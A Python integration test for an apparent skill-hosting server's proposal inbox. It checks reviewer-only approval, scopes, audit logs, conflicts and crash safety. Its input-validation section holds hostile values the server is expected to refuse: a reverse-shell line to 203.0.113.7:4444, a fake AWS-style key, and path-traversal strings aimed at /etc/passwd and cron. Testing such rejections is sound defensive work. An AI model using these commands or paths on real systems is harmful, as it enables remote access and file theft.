#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Tests that callers propose skills, and that nothing is served before a reviewer approves it: inbox_test.py SERVER
SCRIPTED_AUTH"""
import http.client
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[4] / "tests" / "integration"))
from checks import DEADLINE, Checks, until  # noqa: E402
from http_server import LEGACY, Running, legacy  # noqa: E402
from session import Session, write_skill  # noqa: E402

SERVER, AUTH = str(Path(sys.argv[1]).resolve()), str(Path(sys.argv[2]).resolve())
PROPOSER = {"subject": "ada", "scopes": ["skills:read", "skills:propose"], "expires_in": 3600}
TOKENS = {"proposer": PROPOSER, "other": {**PROPOSER, "subject": "bob"},
          "reviewer": {"subject": "rex", "scopes": ["skills:review"], "expires_in": 3600},
          "both": {"subject": "sue", "scopes": ["skills:review", "skills:propose"], "expires_in": 3600},
          "reader": {"subject": "eve", "scopes": ["skills:read"], "expires_in": 3600},
          "manager": {"subject": "root", "scopes": ["skills:manage"], "expires_in": 3600}}
KEY = "AKIA" + "Q3EGR7XK2M4PZW5T"
NAMES = {"propose_skill", "list_proposals", "show_proposal", "review_proposal"}
checks = Checks()


def check(holds: bool, what: str, seen: object = "") -> None:
    checks.check(holds, f"{what}: {str(seen)[:800]}")


def document(name: str, text: str = "Feed the zebrafish.") -> str:
    return f"---\nname: {name}\ndescription: Looks after {name}.\n---\n{text}\n"


def files(name: str, text: str = "Feed the zebrafish.", **more: str) -> list[dict[str, object]]:
    return [{"path": "SKILL.md", "text": document(name, text)}, *({"path": path, "text": text} for path, text in more.items())]


class House:
    """Two sources: `team` serves approved skills, `hub` belongs to others."""

    def __init__(self, folder: Path, auth: bool = True, **inbox: object) -> None:
        self.folder, self.inbox, self.skills = folder, folder / "inbox", folder / "team"
        write_skill(self.skills, "csv", "Reads tables.", "Old text.\n")
        write_skill(folder / "hub", "pdf", "Reads PDF files.")
        write_skill(folder / "rest", "git", "Reads repositories.")
        self.file = folder / "skillhost.json"
        self.audit = folder / "audit.jsonl"
        self.configuration = {
            "sources": [{"name": "team", "config": {"directories": [str(self.skills)]}},
                        {"name": "hub", "config": {"directories": [str(folder / "hub")]}}],
            "inbox": {"folder": str(self.inbox), "source": "team", **inbox}, "startup_wait_ms": 60000}
        if auth:
            self.configuration["auth"] = {"plugin": AUTH, "isolation": "thread", "config": {"tokens": TOKENS}}
            self.configuration["access"] = {"audit_log": str(self.audit)}
        self.write()

    def write(self, **more: object) -> None:
        self.file.write_text(json.dumps({**self.configuration, **more}))

    def serve(self) -> Running:
        os.environ["XDG_CACHE_HOME"] = str(self.folder / "cache")
        return Running(SERVER, str(self.folder / "rest"), "--config", str(self.file))

    def stdio(self) -> Session:
        return Session(["env", f"HOME={self.folder}", f"XDG_CACHE_HOME={self.folder}/cache", SERVER, "--config", str(self.file)])

    def command(self, *words: str, code: int = 0) -> str:
        done = subprocess.run(["env", f"HOME={self.folder}", f"XDG_CACHE_HOME={self.folder}/cache", SERVER, "inbox", *words,
                               "--config", str(self.file)], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
        check(done.returncode == code, f"inbox {words} ends with {code}", (done.returncode, done.stdout, done.stderr))
        # JSON is for programs, which read standard output alone.
        return done.stdout if "--json" in words else done.stdout + done.stderr

    def stored(self) -> list[str]:
        """Returns everything in the inbox except its lock."""
        return sorted(one.name for one in self.inbox.iterdir() if one.name != ".lock") if self.inbox.is_dir() else []


def ask(server: Running, token: str, tool: str, /, **arguments: object) -> dict[str, object]:
    """Calls a tool, and returns its envelope, or the error of the protocol."""
    fields = {"Authorization": f"Bearer {token}"} if token else {}
    answer = server.post(legacy("tools/call", name=tool, arguments=arguments), MCP_Protocol_Version=LEGACY, **fields)[1]
    return answer["result"]["structuredContent"] if "result" in answer else answer


def words(server: Running, token: str, tool: str, /, **arguments: object) -> list[str]:
    """Returns the lines of the text that a tool answers for people and models."""
    answer = server.post(legacy("tools/call", name=tool, arguments=arguments), MCP_Protocol_Version=LEGACY, Authorization=f"Bearer {token}")[1]
    return answer["result"]["content"][0]["text"].splitlines()


def data(server: Running, token: str, tool: str, /, **arguments: object) -> dict[str, object]:
    answer = ask(server, token, tool, **arguments)
    check(answer.get("success") is True, f"{token} may {tool}", answer)
    return answer.get("data") or {}


def fault(answer: dict[str, object]) -> tuple[object, str]:
    error = answer.get("error") or {}
    return error.get("code"), str(error.get("message"))


def propose(server: Running, token: str, name: str, text: str = "Feed the zebrafish.", **more: object) -> str:
    return data(server, token, "propose_skill", name=name, files=files(name, text), **more).get("proposal", {}).get("id", "")


def approve(server: Running, token: str, id: str, /, **more: object) -> dict[str, object]:
    """Approves a proposal as a reviewer does who has just looked at it, and returns the envelope."""
    shown = data(server, "reviewer", "show_proposal", id=id)
    return ask(server, token, "review_proposal", id=id, decision="approve", digest=shown["proposal"]["digest"], base=shown["base"], **more)


def approved(server: Running, id: str, /, **more: object) -> dict[str, object]:
    answer = approve(server, "reviewer", id, **more)
    check(answer.get("success") is True, f"the reviewer approves {id}", answer)
    return answer.get("data") or {}


def listed(server: Running, token: str = "reader") -> str:
    return json.dumps(server.post(legacy("prompts/list"), MCP_Protocol_Version=LEGACY, Authorization=f"Bearer {token}")[1])


def text_of(server: Running, name: str) -> str:
    return json.dumps(ask(server, "reader", "load_skill", skill_name=name))


def tools(server: Running, token: str) -> set[str]:
    answer = server.post(legacy("tools/list"), MCP_Protocol_Version=LEGACY, Authorization=f"Bearer {token}")[1]
    return {one["name"] for one in answer["result"]["tools"]}


def roles(house: House) -> None:
    server = house.serve()
    supported = json.loads(server.ask("GET", "/.well-known/oauth-protected-resource/mcp")[1]).get("scopes_supported")
    check(supported == ["skills:read", "skills:manage", "skills:review", "skills:propose"], "clients learn which scope to request", supported)
    check(NAMES - tools(server, "proposer") == {"review_proposal"}, "the tool that decides is only for reviewers", tools(server, "proposer"))
    check(NAMES <= tools(server, "reviewer"), "reviewers have all tools", tools(server, "reviewer"))
    for token in ("reader", "reviewer", "manager"):
        answer = ask(server, token, "propose_skill", name="fish", files=files("fish"))
        check(fault(answer)[0] == -31007 and "skills:propose" in fault(answer)[1], f"{token} may not propose", answer)
        check(answer["error"].get("data", {}).get("scope") == "skills:read skills:propose", "the refusal names the scopes that are needed", answer)
    check(not house.stored(), "a refused caller leaves nothing", house.stored())

    first = propose(server, "proposer", "fish", note="for the pond")
    check(len(first) == 32 and "fish" not in listed(server), "a proposal is not served", first)
    check(ask(server, "reader", "load_skill", skill_name="fish")["success"] is False, "not even by its name")
    check(not (house.skills / "fish").exists(), "and not in the folder of the source")

    own = data(server, "proposer", "list_proposals")
    check(own["total"] == 1 and own["proposals"][0]["state"] == "pending", "the proposer sees the own one", own)
    check(data(server, "other", "list_proposals")["total"] == 0, "others do not see it")
    for token in ("other", "reader"):
        check(ask(server, token, "show_proposal", id=first).get("success") is not True, f"{token} is not shown it")
    check(fault(ask(server, "other", "show_proposal", id=first))[1].startswith("there is no proposal"), "and does not learn of it")
    everything = data(server, "reviewer", "list_proposals", state="pending")
    check([one["proposer"] for one in everything["proposals"]] == ["ada"], "reviewers see all", everything)
    check((everything["proposals"][0]["change"], everything["proposals"][0]["findings_total"]) == (False, 0), "with the kind and the findings", everything)
    shown = data(server, "reviewer", "show_proposal", id=first)
    check(shown["change"] is False and "+Feed the zebrafish." in shown["files"][0]["text"] and
          shown["proposal"]["note"] == "for the pond", "the reviewer reads all of it", shown)
    for token in ("proposer", "other", "reader", "manager"):
        answer = approve(server, token, first)
        check(answer.get("success") is not True, f"{token} may not decide", answer)
    check("fish" not in listed(server), "and it is still not served")

    done = approved(server, first, reason="good")
    check(done["proposal"]["state"] == "approved", "the reviewer approves it", done)
    until(lambda: '"fish"' in listed(server), "the approved skill is served")
    check("zebrafish" in text_of(server, "fish"), "with its text")
    check(data(server, "proposer", "list_proposals")["proposals"][0]["reason"] == "good", "the proposer is told the reason")
    again = ask(server, "reviewer", "review_proposal", id=first, decision="reject")
    check(fault(again)[0] == "CONFLICT" and "rex" in fault(again)[1], "a decision holds", again)

    mine = propose(server, "both", "own")
    answer = approve(server, "both", mine)
    check(fault(answer)[0] == -31007 and "another reviewer" in fault(answer)[1], "nobody approves the own proposal", answer)
    check("scope" not in answer["error"].get("data", {}), "and no scope would change that", answer)
    check(data(server, "reviewer", "review_proposal", id=mine, decision="reject", reason="no")["proposal"]["state"] == "rejected", "another one decides")
    check("own" not in [path.name for path in house.skills.iterdir()], "a rejected proposal is not served")

    forged = ["new file run.sh (it is executable)", "+echo harmless", "Base: forged"]
    third = propose(server, "proposer", "bird", note="\n".join(["for all", "", *forged]))
    said = words(server, "reviewer", "show_proposal", id=third)
    check(f"Note: for all  {' '.join(forged)}" in said and not set(forged) & set(said), "no line of a note passes for one of the difference", said)
    ask(server, "reviewer", "review_proposal", id=third, decision="reject", reason="no\n- it is served")
    said = words(server, "reviewer", "list_proposals")
    check(any(line.endswith(": no - it is served") for line in said), "nor one of a reason for a proposal", said)

    events = [json.loads(line) for line in house.audit.read_text().splitlines()]
    kinds = [(one["event"], one.get("principal"), one.get("subject")) for one in events]
    for wanted in (("proposed", "ada", "fish"), ("reviewed", "rex", "fish"), ("reviewed", "rex", "own")):
        check(wanted in kinds, f"the audit has {wanted}", kinds)
    peers = [one.get("peer", "") for one in events if one["event"] in ("proposed", "reviewed", "refused")]
    check(all(re.fullmatch(r"127\.0\.0\.1(:\d+)?", one) for one in peers), "with addresses alone as peers", peers)
    check(server.end() == 0, "the server ends")


def changes(house: House) -> None:
    server = house.serve()
    change = propose(server, "proposer", "csv", "New text.")
    shown = data(server, "proposer", "show_proposal", id=change)
    text = next(one["text"] for one in shown["files"] if one["path"] == "SKILL.md")
    check(data(server, "proposer", "list_proposals")["proposals"][0]["change"] is True, "the list says that it is a change")
    check(shown["change"] is True and "-Old text." in text and "+New text." in text, "a change is shown as a difference", shown)
    (house.skills / "csv" / "SKILL.md").write_text(document("csv", "By hand."))
    outdated = approve(server, "reviewer", change)
    check(fault(outdated)[0] == "CONFLICT" and "even_if_changed" in fault(outdated)[1], "a change since then is a conflict", outdated)
    until(lambda: "By hand." in text_of(server, "csv"), "what is there is served")
    check(data(server, "reviewer", "show_proposal", id=change)["outdated"] is True, "the reviewer is told")
    answer = ask(server, "reviewer", "review_proposal", id=change, decision="approve", digest=shown["proposal"]["digest"], even_if_changed=True)
    check(fault(answer) == ("INVALID_INPUT", "arguments.base: required with even_if_changed; it is the base that show_proposal gave"),
          "nobody overwrites a skill that was not shown", answer)
    answer = ask(server, "reviewer", "review_proposal", id=change, decision="approve", digest=shown["proposal"]["digest"], base=shown["base"],
                 even_if_changed=True)
    check(fault(answer)[0] == "CONFLICT" and "show it again" in fault(answer)[1], "not even if it was shown before it changed", answer)
    answer = ask(server, "reviewer", "review_proposal", id=change, decision="approve")
    check(fault(answer) == ("MISSING_REQUIRED_FIELD", "arguments.digest: required"), "an approval names what was shown", answer)
    for decision in ("approve", "reject"):
        answer = ask(server, "reviewer", "review_proposal", id=change, decision=decision, digest="blake3:" + "0" * 64)
        check(fault(answer)[0] == "CONFLICT" and shown["proposal"]["digest"] in fault(answer)[1], f"{decision} of something else is a conflict", answer)
    approved(server, change, even_if_changed=True)
    until(lambda: "New text." in text_of(server, "csv"), "the new text is served")
    check((house.inbox / change / ".before" / "SKILL.md").read_text() == document("csv", "By hand."), "what was there is kept")

    foreign = ask(server, "proposer", "propose_skill", name="pdf", files=files("pdf"))
    check(fault(foreign)[0] == "CONFLICT" and "hub/pdf" in fault(foreign)[1], "a skill of another source cannot be changed", foreign)
    late = propose(server, "proposer", "late")
    write_skill(house.folder / "hub", "late", "Came in the meantime.")
    until(lambda: "meantime" in listed(server), "another source serves the name now")
    answer = approve(server, "reviewer", late)
    check(fault(answer)[0] == "CONFLICT" and "hub/late" in fault(answer)[1], "then it cannot be approved", answer)

    # A long text can be read to its end.
    long = "".join(f"Line {number} of a long text.\n" for number in range(3000))
    big = data(server, "proposer", "propose_skill", name="long",
               files=[*files("long"), *({"path": f"references/{i}.md", "text": long} for i in range(10))])["proposal"]["id"]
    whole = data(server, "reviewer", "show_proposal", id=big)
    cut = [one for one in whole["files"] if "rest" in one]
    check(bool(cut) and "text_offset" in whole["message"], "a cut difference says so", whole["message"])
    read, offset = "", 0
    while True:
        part = data(server, "reviewer", "show_proposal", id=big, path="references/9.md", text_offset=offset)["files"][0]
        read += part["text"]
        if "next_offset" not in part:
            break
        offset = part["next_offset"]
    check([line[1:] for line in read.splitlines() if line.startswith("+")] == long.splitlines(), "and can be read in parts", len(read))
    check(server.end() == 0, "the server ends")


def bad_input(house: House) -> None:
    server = house.serve()
    good = files("fish")

    def refused(what: str, code: str, said: str, **arguments: object) -> None:
        answer = ask(server, "proposer", "propose_skill", **{"name": "fish", "files": good, **arguments})
        check(fault(answer)[0] == code and said in fault(answer)[1], f"{what} is refused", answer)

    for path in ("../x.md", "a/../../x", "/etc/cron.d/x", "a//b", "a\\b", "a\u0000b", "", "x" * 5000):
        refused(f"the path {path[:20]!r}", "INVALID_INPUT", "path", files=[*good, {"path": path, "text": "x"}])
    for path, said in ((".git/hooks/x", "tool"), (".hidden/x", "dot"), ("a/.hidden/x.md", "dot"), (".env", "secret"), ("id_rsa", "secret"), ("node_modules/x.js", "tool"),
                       ("sub/SKILL.md", "another skill"), ("skill.md", "another skill"), ("SKILL.md/x", "file and of a folder")):
        refused(f"the path {path}", "INVALID_INPUT", said, files=[*good, {"path": path, "text": "x"}])
    refused("a second file of one path", "INVALID_INPUT", "same path", files=[*good, *good])
    refused("an unknown member", "INVALID_INPUT", "unknown member", files=[{**good[0], "link": "/etc/passwd"}])
    refused("a link", "INVALID_INPUT", "error", files=[*good, {"path": "a.md", "text": "../../../etc/passwd"}])
    refused("two forms of one file", "INVALID_INPUT", "exactly one", files=[{**good[0], "base64": "eA=="}])
    refused("broken base64", "INVALID_INPUT", "base64", files=[*good, {"path": "a.bin", "base64": "%%%"}])
    refused("no file", "INVALID_INPUT", "files", files=[])
    refused("files of another type", "INVALID_INPUT", "files", files="SKILL.md")
    refused("10,000 files", "ARRAY_TOO_LARGE", "", files=[*good, *({"path": f"f{i}", "text": "x"} for i in range(10_000))])
    refused("too many bytes", "INVALID_INPUT", "bytes",
            files=[*good, *({"path": f"f{i}.txt", "text": "x" * 90_000} for i in range(20))])
    refused("a name that is a path", "INVALID_INPUT", "name", name="../fish")
    refused("another name in the front matter", "INVALID_INPUT", "error", name="bird")
    refused("a document without front matter", "INVALID_INPUT", "error", files=[{"path": "SKILL.md", "text": "hello"}])
    refused("a skill without SKILL.md", "INVALID_INPUT", "SKILL.md is missing", files=[{"path": "a.md", "text": "hello"}])
    secret = ask(server, "proposer", "propose_skill", name="fish", files=[*good, {"path": "run.sh", "text": f"export KEY={KEY}\n"}])
    findings = secret["error"].get("context", {}).get("findings", [])
    check(fault(secret)[0] == "INVALID_INPUT" and any(one["file"] == "run.sh" for one in findings), "a secret is refused", secret)
    check(KEY not in json.dumps(secret), "and is not repeated", secret)
    refused("a reverse shell", "INVALID_INPUT", "error",
            files=[*good, {"path": "run.sh", "text": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"}])
    check(not house.stored(), "nothing of all that is stored", house.stored())
    for one in ("", "..", "../../etc", "a" * 32, "A" * 32):
        answer = ask(server, "reviewer", "review_proposal", id=one, decision="approve", digest="x")
        check(fault(answer)[0] in ("NOT_FOUND", "INVALID_INPUT"), f"the id {one!r} is unknown", answer)

    warned = data(server, "proposer", "propose_skill", name="fish", files=files("fish", "See [more](more.md)."))
    check([one["severity"] for one in warned["proposal"]["findings"]] == ["warning"], "a warning is kept for the reviewer", warned)
    binary = data(server, "proposer", "propose_skill", name="fish",
                  files=[*good, {"path": "assets/a.bin", "base64": "AAH/"}, {"path": "run.sh", "text": "#!/bin/sh\n", "executable": True}])
    check(len(house.stored()) == 1, "the second proposal replaces the first", house.stored())
    approved(server, binary["proposal"]["id"])
    check((house.skills / "fish/assets/a.bin").read_bytes() == b"\x00\x01\xff" and os.access(house.skills / "fish/run.sh", os.X_OK) and
          not os.access(house.skills / "fish/SKILL.md", os.X_OK), "bytes and executable bits are those of the proposal")
    check(server.end() == 0, "the server ends")


def bounded(house: House) -> None:
    """Limits, two servers on one folder, and a restart."""
    one, two = house.serve(), house.serve()
    ids = [propose(one, "proposer", "a"), propose(two, "proposer", "b")]
    for server in (one, two):
        answer = ask(server, "proposer", "propose_skill", name="c", files=files("c"))
        check(fault(answer)[0] == "RATE_LIMITED", "each caller may have only so many", answer)
    other = propose(two, "other", "a", "Of another.")
    check(fault(ask(one, "both", "propose_skill", name="d", files=files("d")))[0] == "RATE_LIMITED", "and all together too")
    approved(one, ids[0])
    check(fault(ask(two, "reviewer", "review_proposal", id=ids[0], decision="reject"))[0] == "CONFLICT", "both servers know of a decision")
    until(lambda: "zebrafish" in text_of(two, "a"), "and both serve the skill")
    outdated = approve(two, "reviewer", other)
    check(fault(outdated)[0] == "CONFLICT", "the other proposal of that name is outdated", outdated)
    one.process.send_signal(signal.SIGKILL)
    one.process.wait(DEADLINE)
    check(two.end() == 0, "the server ends")
    three = house.serve()
    states = {item["id"]: item["state"] for item in data(three, "reviewer", "list_proposals")["proposals"]}
    check(states == {ids[0]: "approved", ids[1]: "pending", other: "pending"}, "a new server knows all of them", states)
    check(three.end() == 0, "the server ends")


def killed(house: House) -> None:
    """A server that is killed while it works leaves whole proposals and whole skills."""
    for round in range(3):
        server = house.serve()
        answered: list[str] = []

        def work(first: int) -> None:
            try:
                for number in range(first, first + 30):
                    id = data(server, "proposer", "propose_skill", name=f"s{number}", files=[
                        *files(f"s{number}", f"Round {round}."),
                        *({"path": f"references/{i}.md", "text": "text\n" * 1000} for i in range(20))])["proposal"]["id"]
                    answered.append(id)
                    approved(server, id)
            except (OSError, http.client.HTTPException):
                pass  # the server is gone

        threads = [threading.Thread(target=work, args=(first,)) for first in (0, 100)]
        for thread in threads:
            thread.start()
        until(lambda: len(answered) > 5, "some proposals are answered")
        server.process.send_signal(signal.SIGKILL)
        for thread in threads:
            thread.join(DEADLINE)
        server.process.wait(DEADLINE)
        server = house.serve()
        known = {one["id"]: one for one in data(server, "reviewer", "list_proposals", state="pending")["proposals"]}
        check(not [name for name in house.stored() if len(name) != 32], "no draft is left", house.stored())
        for id in [*known, *answered]:
            shown = data(server, "reviewer", "show_proposal", id=id)
            check(shown.get("proposal", {}).get("files") == 21, "each proposal that was answered or is listed is whole", shown)
        for id in known:
            approved(server, id)
        for skill in house.skills.iterdir():
            if skill.name != "csv":
                check(len(list(skill.rglob("*.md"))) == 21, "each skill is whole", list(skill.rglob("*")))
        check(server.end() == 0, "the server ends")


def visibility(house: House) -> None:
    """A proposal must not reveal a skill that is hidden from its proposer."""
    house.write(access={"visibility": [{"sources": ["team"], "principals": ["rex"]}]})
    server = house.serve()
    hidden = propose(server, "proposer", "csv", "New text.")
    shown = data(server, "proposer", "show_proposal", id=hidden)
    check("Old text." not in json.dumps(shown) and (shown["change"], shown["base"], shown["outdated"]) == (False, "", False),
          "the hidden skill is not shown", shown)
    check(data(server, "proposer", "list_proposals")["proposals"][0]["change"] is False, "nor is it in the list")
    check(data(server, "reviewer", "list_proposals")["proposals"][0]["change"] is True, "reviewers see it there")
    seen = data(server, "reviewer", "show_proposal", id=hidden)
    check("-Old text." in json.dumps(seen), "the reviewer sees the difference", seen)
    (house.skills / "linked").symlink_to(house.folder / "rest" / "git")
    blind = propose(server, "proposer", "linked")
    check(ask(server, "proposer", "show_proposal", id=blind)["data"]["change"] is False, "nor is it told that a link is in the way")
    answer = approve(server, "reviewer", blind)
    check(fault(answer)[0] == "CONFLICT" and "is a link" in fault(answer)[1], "the approval fails with the reason", answer)
    said = approved(server, hidden)["message"]
    check("in a moment" not in said and "rules of review or a lock" in said, "nobody is promised what others may withhold", said)
    check(server.end() == 0, "the server ends")
    # From now on the skill is visible, and what it was before stays hidden.
    house.write()
    server = house.serve()
    until(lambda: "New text." in text_of(server, "csv"), "the skill is visible now")
    shown = data(server, "proposer", "show_proposal", id=hidden)
    check("Old text." not in json.dumps(shown) and (shown["change"], shown["base"]) == (False, ""), "the replaced skill stays hidden", shown)
    check(not any(one["change"] for one in data(server, "proposer", "list_proposals")["proposals"]), "also in the list")
    check("-Old text." in json.dumps(data(server, "reviewer", "show_proposal", id=hidden)), "the reviewer sees it")
    check(server.end() == 0, "the server ends")


def nested(house: House) -> None:
    """Skills and other files in the folder of a skill are neither shown to those who do not see them nor removed."""
    ops = house.skills / "ops"
    write_skill(house.skills, "ops", "Looks after servers.", "Old text.\n")
    write_skill(ops, "payroll", "Pays people.\ncategory: internal", "Inner words.\n")
    write_skill(house.skills / "group", "sub", "Is in a group.")
    (ops / ".style.md").write_text("Be short.\n")
    (ops / "plan.txt").write_text("Excluded words.\n")
    (ops / "link.md").symlink_to(house.folder / "rest" / "git" / "SKILL.md")
    sources = json.loads(json.dumps(house.configuration["sources"]))
    sources[0]["config"]["exclude"] = ["**/*.txt"]
    hide = {"visibility": [{"categories": ["internal"], "principals": ["rex"]}], "audit_log": str(house.audit)}
    house.write(sources=sources, access=hide)
    server = house.serve()
    check("payroll" not in listed(server), "the inner skill is hidden", listed(server))
    change = propose(server, "proposer", "ops", "New text.")
    shown = data(server, "proposer", "show_proposal", id=change)
    said = json.dumps(shown)
    check("-Old text." in said, "the proposer sees the difference to what is served", shown)
    for word in ("payroll", "Inner words", "plan.txt", "Excluded words", str(house.folder)):
        check(word not in said, f"and not {word}", shown)
    removed = [one["path"] for one in shown["files"] if one["change"] == "gone"]
    check(removed == [".style.md"], "a file with a dot counts as removed", shown)
    whole = data(server, "reviewer", "show_proposal", id=change)
    check("plan.txt" in json.dumps(whole["files"]) and "payroll" in whole["obstacle"], "the reviewer sees all of it", whole)
    answer = approve(server, "reviewer", change)
    check(fault(answer)[0] == "CONFLICT" and "payroll" in fault(answer)[1], "the inner skill is not removed", answer)
    check((ops / "payroll" / "SKILL.md").exists() and "Old text." in (ops / "SKILL.md").read_text(), "all is as before")
    answer = ask(server, "proposer", "propose_skill", name="group", files=files("group"))
    check(fault(answer)[0] == "CONFLICT" and "sub" in fault(answer)[1], "a folder of skills that the proposer sees is not proposed away", answer)
    shutil.move(ops / "payroll", house.skills / "payroll")
    approved(server, propose_with_dot(server))
    check((ops / ".style.md").read_text() == "Be long.\n" and (house.skills / "payroll" / "SKILL.md").exists(), "then it is approved")
    check(server.end() == 0, "the server ends")


def propose_with_dot(server: Running) -> str:
    return data(server, "proposer", "propose_skill", name="ops", files=[*files("ops", "New text."), {"path": ".style.md", "text": "Be long.\n"}])["proposal"]["id"]


def damaged(house: House) -> None:
    """A proposal that cannot be read does not make the inbox look empty."""
    server = house.serve()
    good, bad = propose(server, "proposer", "fish"), propose(server, "proposer", "bird")
    record = house.inbox / bad / "proposal.json"
    record.write_text("garbage")
    answer = data(server, "reviewer", "list_proposals")
    check(answer["total"] == 1 and [one["id"] for one in answer["unreadable"]] == [bad], "reviewers are told of it", answer)
    said = words(server, "reviewer", "list_proposals")
    check(any(line.startswith("- ") and str(record) in line and "delete the folder" in line for line in said), "with the file and what to do", said)
    own = data(server, "proposer", "list_proposals")
    check(own["total"] == 1 and "unreadable" not in own and bad not in json.dumps(own), "others are not", own)
    refused = ask(server, "proposer", "show_proposal", id=bad)
    check(refused.get("success") is False and str(house.inbox) not in json.dumps(refused), "and learn no path", refused)
    said = house.command("list", code=1)
    check(good in said and str(record) in said and "1 proposal waits for a decision; 1 proposal cannot be read" in said, "the command says so", said)
    answer = json.loads(house.command("list", "--json", code=1))
    check([one["id"] for one in answer["unreadable"]] == [bad] and len(answer["proposals"]) == 1, "also as JSON", answer)
    check(str(record) in house.command("show", bad, code=1), "as does showing it")
    shutil.rmtree(record.parent)
    house.command("list")
    check(server.end() == 0, "the server ends")


def local(session: Session, tool: str, /, **arguments: object) -> dict[str, object]:
    return session.call("tools/call", name=tool, arguments=arguments)["structuredContent"]


def without_auth(house: House) -> None:
    session = house.stdio()
    names = {one["name"] for one in session.call("tools/list")["tools"]}
    check(NAMES - names == {"review_proposal"}, "on stdio the user may propose, and the agent cannot approve", names)
    made = local(session, "propose_skill", name="fish", files=files("fish"))["data"]
    check(made["proposal"]["state"] == "pending" and made["proposal"]["proposer"] == "the local user", "the user proposes", made)
    refused = session.answer("tools/call", name="review_proposal", arguments={"id": made["proposal"]["id"], "decision": "approve",
                                                                             "digest": made["proposal"]["digest"]})
    check("result" not in refused or refused["result"].get("isError"), "nobody decides over MCP", refused)
    check("fish" not in json.dumps(session.call("prompts/list")), "nothing is served")
    check(local(session, "list_proposals")["data"]["total"] == 1, "the user sees it")
    id = made["proposal"]["id"]
    check(id in house.command("list") and "+Feed the zebrafish." in house.command("show", id), "the user reads it by the command")
    house.command("approve", id[:-1], code=1)
    write_skill(house.folder / "hub", "fish", "Of another source.")
    check("hub/fish" in house.command("approve", id, code=1), "the name of another skill is not approved")
    shutil.rmtree(house.folder / "hub" / "fish")
    check("approved" in house.command("approve", id, "--reason", "read it", "--who", "me"), "the user approves it")
    until(lambda: '"fish"' in json.dumps(session.call("prompts/list")), "the running server serves it")
    shown = local(session, "list_proposals")["data"]["proposals"][0]
    check((shown["state"], shown["reviewer"], shown["reason"]) == ("approved", "me", "read it"), "the agent is told", shown)
    house.command("reject", id, code=1)
    check(id not in house.command("list") and id in house.command("list", "--all"), "the list has what waits")
    listing = json.loads(house.command("list", "--all", "--json"))["proposals"]
    check(listing[0]["id"] == id and json.loads(house.command("show", id, "--json"))["change"] is False, "also as JSON", listing)
    session.server.finish()
    server = house.serve()
    answer = ask(server, "", "propose_skill", name="bird", files=files("bird"))
    check("auth.plugin" in fault(answer)[1], "over HTTP nobody proposes without a name", answer)
    check(server.end() == 0, "the server ends")


def by_command(house: House) -> None:
    """`skillhost propose` sends a folder, and lists what became of it."""
    server = house.serve()

    def run(*words: str, code: int = 0) -> str:
        done = subprocess.run(["env", f"HOME={house.folder}", "TOKEN=proposer", SERVER, "propose", *words, "--url",
                               f"http://127.0.0.1:{server.port}/mcp", "--token-env", "TOKEN"],
                              stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
        check(done.returncode == code, f"propose {words} ends with {code}", (done.returncode, done.stdout, done.stderr))
        # JSON is for programs, which read standard output alone.
        return done.stdout if "--json" in words else done.stdout + done.stderr

    folder = house.folder / "mine" / "fish"
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text(document("fish", "See [more](more.md)."))
    (folder / "run.sh").write_text("#!/bin/sh\n")
    (folder / "run.sh").chmod(0o755)
    (folder / ".env").write_text("SECRET=1\n")
    (folder / ".style.md").write_text("Be short.\n")
    (folder / ".hidden").mkdir()
    (folder / ".hidden" / "a.md").write_text("Hidden.\n")
    said = run(str(folder), "--note", "for the pond")
    check("proposed as" in said and "more.md" in said and ".env" in said, "the id, the findings and what is left out are printed", said)
    proposals = data(server, "reviewer", "list_proposals")["proposals"]
    check(len(proposals) == 1 and proposals[0]["files"] == 3 and proposals[0]["note"] == "for the pond", "the server has it", proposals)
    data(server, "reviewer", "review_proposal", id=proposals[0]["id"], decision="reject", reason="not now")
    check("rejected" in run("--list") and "not now" in run("--list"), "the list has the decision")
    check(json.loads(run("--list", "--json"))["total"] == 1, "also as JSON")
    (folder / "run.sh").write_text(f"#!/bin/sh\nexport KEY={KEY}\n")
    refused = run(str(folder), code=1)
    check("run.sh: error" in refused and KEY not in refused, "a secret is refused with its finding", refused)
    (folder / "link.md").symlink_to("/etc/hostname")
    check("link" in run(str(folder), code=1), "a link is not sent")
    run(code=1)
    check(server.end() == 0, "the server ends")
    house.write(inbox={})
    server = house.serve()
    supported = json.loads(server.ask("GET", "/.well-known/oauth-protected-resource/mcp")[1]).get("scopes_supported")
    check(supported == ["skills:read", "skills:manage"], "without an inbox there is no scope for it", supported)
    (folder / "link.md").unlink()
    check("Unknown tool: propose_skill" in run(str(folder), code=1), "a server without an inbox has no such tool")
    check(server.end() == 0, "the server ends")


def start(folder: Path) -> None:
    """Configurations that would serve proposals, or cannot work, end the start."""
    house = House(folder / "start", auth=False)
    for said, inbox in (("no source", {"source": "nobody"}), ("must not lie in", {"folder": str(house.skills / "inbox")}),
                        ("must not contain", {"folder": str(house.folder)}), ("inbox.source", {"source": None})):
        house.write(inbox={key: value for key, value in {**house.configuration["inbox"], **inbox}.items() if value is not None})
        done = subprocess.run([SERVER, "--config", str(house.file)], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
        check(done.returncode != 0 and said in done.stderr, f"the start ends: {said}", (done.returncode, done.stderr))
    house.write(inbox={})
    session = house.stdio()
    check(not NAMES & {one["name"] for one in session.call("tools/list")["tools"]}, "without a folder there are no tools")
    session.server.finish()


def main() -> int:
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        roles(House(folder / "roles"))
        changes(House(folder / "changes"))
        bad_input(House(folder / "bad"))
        bounded(House(folder / "bounded", max_pending=3, max_pending_per_proposer=2))
        killed(House(folder / "killed", max_pending_per_proposer=400, max_pending=400))
        visibility(House(folder / "visibility"))
        nested(House(folder / "nested"))
        damaged(House(folder / "damaged"))
        without_auth(House(folder / "local", auth=False))
        by_command(House(folder / "command"))
        start(folder)
    return checks.finish()


if __name__ == "__main__":
    sys.exit(main())
